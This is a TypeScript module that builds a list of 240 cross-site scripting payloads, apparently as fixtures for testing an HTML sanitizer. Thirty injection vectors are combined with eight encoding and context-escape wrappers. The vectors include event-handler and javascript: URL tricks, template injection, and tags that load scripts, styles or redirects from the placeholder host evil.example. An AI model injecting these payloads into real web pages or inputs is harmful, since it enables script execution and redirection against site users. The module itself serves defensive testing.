const call = 'window.__hit=1'

/** Ways to get script to run, each with a trace it would leave. */
const bare = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror=${call}>`,
  `<img src=https://evil.example/p.png>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<body onload=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example/"><button autofocus>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<base href=https://evil.example/>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<template><script>${call}</script></template>`,
  `<marquee onstart=${call}>`,
  `<div style="background:url(https://evil.example/b.png)">`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `{{constructor.constructor('${call}')()}}`,
]

const escapes: Record<string, (text: string) => string> = {
  plain: text => text,
  leavingAttribute: text => `" ${text} "`,
  leavingSingleQuotes: text => `' autofocus onfocus='${call}' x='${text}`,
  leavingText: text => `</textarea></title></style></script>${text}`,
  asEntities: text => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  asNumbers: text => [...text].map(char => `&#${char.codePointAt(0)};`).join(''),
  withNulls: text => text.replace(/</g, '<\u000b').replace(/=/g, '\u000c='),
  afterComment: text => `--><!--${text}-->`,
}

/** 240 payloads: every way in every disguise. */
export const xssPayloads = Object.values(escapes).flatMap(disguise => bare.map(disguise))
